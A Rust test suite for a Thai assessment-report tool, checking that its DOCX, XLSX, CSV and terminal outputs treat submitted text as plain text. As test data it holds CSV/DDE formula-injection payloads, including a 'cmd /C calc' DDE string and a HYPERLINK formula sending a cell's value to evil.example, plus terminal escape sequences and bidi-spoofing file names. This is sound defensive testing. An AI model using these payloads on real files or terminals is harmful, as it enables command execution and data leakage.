//! What documents and names of files say is text in every output: never a formula, markup, a command to a terminal, or
//! a link to elsewhere.

#![allow(clippy::panic, clippy::unwrap_used, clippy::indexing_slicing, reason = "a failure is the answer")]

use std::collections::BTreeSet;
use std::fs;
use std::io::{Cursor, Read as _};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use quick_xml::Reader;
use quick_xml::events::Event;
use regex::Regex;
use rust_xlsxwriter::Workbook;
use serde_json::Value;
use tempfile::TempDir;
use walkdir::WalkDir;

/// Is in every text, so that it is found where it may not be.
const MARK: &str = "evil";

/// What each would be in the hands of a careless program: a formula, a field, markup, a command to a terminal, another
/// order of letters, a link.
const TEXTS: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"ก\")",
    "+evil+cmd|' /C calc'!A0",
    "-evil-2+3",
    "@SUM(evil)",
    "\t=evil",
    "\r\n=evil",
    "{=evil}",
    "ก\u{1b}]8;;http://evil.example\u{7}คลิก\u{1b}]8;;\u{7}",
    "ข\u{1b}[2J\u{9b}31mevil\u{8}\u{7f}",
    "</w:t></w:r></w:p><w:p>evil<!-- ]]> &amp; &#0; &evil; <![CDATA[",
    "ค\u{202E}xcod.evil\u{2066}\u{200B}\u{FEFF}",
    "http://evil.example/",
    "file://evil/share",
    "internal:'evil'!A1 \"; DDEAUTO evil",
];

/// Names of files that a shell or a table takes badly.
const NAMES: [&str; 7] = [
    "=HYPERLINK(\"odd.example\").csv",
    "-odd+1.csv",
    "@odd \u{1b}[2J\u{7}.csv",
    "odd<b>&'\"); x.csv",
    "\u{202E}odd\u{2066}.csv",
    "odd\n=1.csv",
    "odd %23#A1?.csv",
];

/// Submissions that say such things wherever a document says something.
fn submissions() -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("samples/reports/dangmo.docx");
    let run = prongsai(folder.path(), &["compare", sample.to_str().unwrap(), "-o", "plain", "--quiet"]);
    assert!(run.status.success(), "{run:?}");
    let mut data: Value =
        serde_json::from_slice(&fs::read(folder.path().join("plain/assessments.json")).unwrap()).unwrap();
    // Thrice, so that every text comes to many places.
    let told = data["assessments"].as_array_mut().unwrap();
    *told = (0..3).flat_map(|_| told.clone()).collect();
    let mut texts = TEXTS.iter().cycle();
    for assessment in data["assessments"].as_array_mut().unwrap() {
        for name in ["/agency/name", "/agency/district", "/agency/province"] {
            stain(assessment.pointer_mut(name), &mut texts);
        }
        for list in ["measures", "recommendations"] {
            for told in assessment[list].as_array_mut().unwrap() {
                for key in ["title", "text", "suggestion", "steps", "responsible", "results"] {
                    stain(told.get_mut(key), &mut texts);
                }
                stain(told.pointer_mut("/period/text"), &mut texts);
                stain(told.pointer_mut("/places/0/file"), &mut texts);
            }
        }
        stain(assessment.pointer_mut("/overall/places/0/file"), &mut texts);
    }
    let source = folder.path().join("in");
    fs::create_dir(&source).unwrap();
    fs::write(source.join("assessments.json"), serde_json::to_vec(&data).unwrap()).unwrap();

    let heads = ["หน่วยงาน", "จังหวัด", "ปีงบประมาณ", "คะแนน IIT", "คะแนน EIT", "คะแนน OIT", "คะแนนรวม", "ระดับ"];
    for (number, name) in NAMES.iter().enumerate() {
        let mut table = csv::Writer::from_path(source.join(name)).unwrap();
        table.write_record(heads).unwrap();
        let agency = TEXTS[number * 2 % TEXTS.len()];
        table.write_record([agency, "ตราด", "2564", "80", agency, "70", "=evil", "B"]).unwrap();
        table.flush().unwrap();
    }
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet().set_name("=evil&<b>'\"!A1").unwrap();
    for (column, head) in (0_u16..).zip(heads) {
        sheet.write_string(0, column, head).unwrap();
    }
    for (row, text) in (1_u32..).zip(TEXTS) {
        for (column, value) in (0_u16..).zip([text, "ตราด", "2565", "81", "x", "70", text, "evil"]) {
            sheet.write_string(row, column, value).unwrap();
        }
    }
    workbook.save(source.join("scores =odd.xlsx")).unwrap();
    folder
}

/// Puts such a text in front of a text, or of all in a list.
fn stain<'t>(value: Option<&mut Value>, texts: &mut impl Iterator<Item = &'t &'t str>) {
    match value {
        Some(Value::Array(all)) => all.iter_mut().for_each(|one| stain(Some(one), texts)),
        Some(Value::String(text)) => text.insert_str(0, texts.next().unwrap()),
        _ => {}
    }
}

/// Runs the program; whatever it prints, it steers no terminal.
fn prongsai(folder: &Path, arguments: &[&str]) -> Output {
    let run = Command::new(env!("CARGO_BIN_EXE_prongsai")).current_dir(folder).args(arguments).output().unwrap();
    for printed in [&run.stdout, &run.stderr] {
        let printed = String::from_utf8(printed.clone()).unwrap();
        let steers = |c: char| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2060}'..='\u{206F}' | '\u{FEFF}')
        };
        let line = printed.lines().find(|line| line.contains(steers));
        assert!(line.is_none(), "{arguments:?} prints {line:?}");
    }
    run
}

/// All files of a folder, none of which leads out of it by name.
fn files(folder: &Path) -> Vec<PathBuf> {
    let files = WalkDir::new(folder).sort_by_file_name().into_iter().map(|entry| entry.unwrap().into_path());
    files.filter(|path| path.is_file()).collect()
}

/// The parts of a package.
fn parts(path: &Path) -> Vec<(String, Vec<u8>)> {
    let mut package = zip::ZipArchive::new(Cursor::new(fs::read(path).unwrap())).unwrap();
    (0..package.len())
        .map(|index| {
            let mut part = package.by_index(index).unwrap();
            let mut bytes = Vec::new();
            part.read_to_end(&mut bytes).unwrap();
            (part.name().unwrap().into_owned(), bytes)
        })
        .collect()
}

/// The texts of elements of this name in a part that is well-formed XML, and the values of all its attributes.
fn texts_and_attributes(xml: &str, wanted: &[&str]) -> (Vec<String>, Vec<(String, String)>) {
    let (mut texts, mut attributes, mut open) = (Vec::new(), Vec::new(), Vec::new());
    let mut reader = Reader::from_str(xml);
    reader.config_mut().check_end_names = true;
    loop {
        match reader.read_event().unwrap() {
            Event::Eof => break,
            Event::Start(element) => {
                attributes.extend(pairs(&element));
                open.push(element.name().as_ref().to_owned());
                if wanted.contains(&open.last().unwrap().as_str()) {
                    texts.push(String::new());
                }
            }
            Event::Empty(element) => attributes.extend(pairs(&element)),
            Event::End(_) => drop(open.pop()),
            Event::Text(text) if open.last().is_some_and(|name| wanted.contains(&name.as_str())) => {
                texts.last_mut().unwrap().push_str(&text);
            }
            Event::GeneralRef(reference) if open.last().is_some_and(|name| wanted.contains(&name.as_str())) => {
                let text = match &*reference {
                    "quot" => "\"",
                    "amp" => "&",
                    "lt" => "<",
                    "gt" => ">",
                    "apos" => "'",
                    other => panic!("&{other};"),
                };
                texts.last_mut().unwrap().push_str(text);
            }
            _ => {}
        }
    }
    assert!(open.is_empty());
    (texts, attributes)
}

fn pairs(element: &quick_xml::events::BytesStart<'_>) -> Vec<(String, String)> {
    let pair = |attribute: quick_xml::events::attributes::Attribute<'_>| {
        (attribute.key.as_ref().to_owned(), attribute.value.clone().into_owned())
    };
    element.attributes().map(|attribute| pair(attribute.unwrap())).collect()
}

/// True where one of the texts is in a package.
fn says_mark(path: &Path) -> bool {
    parts(path).iter().any(|(_, bytes)| String::from_utf8_lossy(bytes).contains(MARK))
}

/// Looks through an output of ours.
fn assert_harmless(path: &Path) {
    let literals = Regex::new(r#""(?:[^"]|"")*""#).unwrap();
    for (name, bytes) in parts(path) {
        let told = || format!("{}: {name}", path.display());
        assert!(!name.to_lowercase().contains("externallink"), "{}", told());
        if !(name.ends_with(".xml") || name.ends_with(".rels")) {
            continue;
        }
        let xml = String::from_utf8(bytes).unwrap();
        let (codes, attributes) =
            texts_and_attributes(&xml, &["f", "w:instrText", "formula1", "formula2", "definedName"]);
        for code in codes {
            // A quoted text in a formula of ours is text; what stands without quotes is not from a document.
            let bare = literals.replace_all(&code, "");
            assert!(!bare.contains(MARK) && !bare.contains("odd"), "{}: {code}", told());
        }
        for (attribute, value) in attributes {
            assert!(!(attribute == "TargetMode" && value.eq_ignore_ascii_case("external")), "{}: {value}", told());
            let is_target =
                matches!(attribute.as_str(), "Target" | "location" | "w:anchor" | "w:fldSimple" | "w:instr");
            assert!(!(is_target && value.contains(MARK)), "{}: {attribute} {value}", told());
        }
    }
}

#[test]
fn no_output_takes_what_documents_say_for_more_than_text() {
    let folder = submissions();
    for language in ["th", "en"] {
        let said = |arguments: &[&str], code: i32| {
            let run = prongsai(folder.path(), &[arguments, &["--lang", language]].concat());
            assert_eq!(run.status.code(), Some(code), "{arguments:?}: {run:?}");
            String::from_utf8(run.stdout).unwrap()
        };
        let (compared, reported, converted) =
            (format!("compared-{language}"), format!("reported-{language}"), format!("converted-{language}"));
        let told = said(&["compare", "in", "-o", &compared, "--letters"], 0);
        assert!(told.contains(MARK), "the texts do not get so far:\n{told}");
        said(&["report", "in", "-o", &reported], 0);
        // For people in one language, for machines in the other.
        let json: &[&str] = if language == "th" { &[] } else { &["--json"] };
        said(&[&["check", "in"], json].concat(), 1);
        for file in files(&folder.path().join("in")).iter().step_by(3) {
            let run =
                prongsai(folder.path(), &[&["inspect", file.to_str().unwrap(), "--lang", language], json].concat());
            assert!(matches!(run.status.code(), Some(0 | 3)), "{run:?}");
        }
        said(&["convert", "in", &reported, "-o", &converted, "--to", "thai"], 0);
        said(&[&["convert", "in", "-o", &converted, "--dry-run"], json].concat(), 0);
        let mut seen = BTreeSet::new();
        for path in [compared, reported, converted.clone()].iter().flat_map(|one| files(&folder.path().join(one))) {
            let name = path.file_name().unwrap().to_str().unwrap();
            assert!(!name.contains(|c: char| c.is_control() || r#"<>:"/\|?*"#.contains(c)), "{name:?}");
            if name.ends_with(".docx") || name.ends_with(".xlsx") {
                assert_harmless(&path);
                seen.insert(path.strip_prefix(folder.path()).unwrap().to_string_lossy().into_owned());
            }
        }
        // The texts get as far as into every output.
        for output in ["comparison.xlsx", "comparison.docx", "letters.docx"] {
            assert!(says_mark(&folder.path().join(format!("compared-{language}")).join(output)), "{output}");
        }
        assert!(seen.len() > 9, "{seen:?}");
        let manifest = fs::read(folder.path().join(converted).join("manifest.csv")).unwrap();
        let mut table = csv::Reader::from_reader(manifest.strip_prefix("\u{FEFF}".as_bytes()).unwrap());
        for record in table.records() {
            let record = record.unwrap();
            let formula = record.iter().find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']));
            assert!(formula.is_none(), "{formula:?}");
        }
    }
}

#[test]
fn no_message_about_the_command_line_steers_the_terminal() {
    let folder = tempfile::tempdir().unwrap();
    let odd = "\u{1b}]8;;http://evil.example\u{7}\u{202E}odd";
    fs::create_dir(folder.path().join("in")).unwrap();
    fs::write(folder.path().join("file"), "").unwrap();
    let cases: [&[&str]; 10] = [
        &[odd],
        &["compare", odd, "-o", odd],
        &["compare", "in", "-o", "out", odd],
        &["compare", "in", "-o", "out", "--digits", odd],
        &["check", "in", "--threads", odd],
        &["report", "in", "-o", "out", "--agency", odd],
        &["inspect", odd],
        &["convert", "in", "-o", "out", "--keep", "(\u{1b}[2J"],
        &["template", "-o", odd],
        &["compare", "in", "-o", "out", "--decisions", odd],
    ];
    for arguments in cases {
        let run = prongsai(folder.path(), arguments);
        assert!(matches!(run.status.code(), Some(2 | 3)), "{arguments:?}: {run:?}");
    }
}
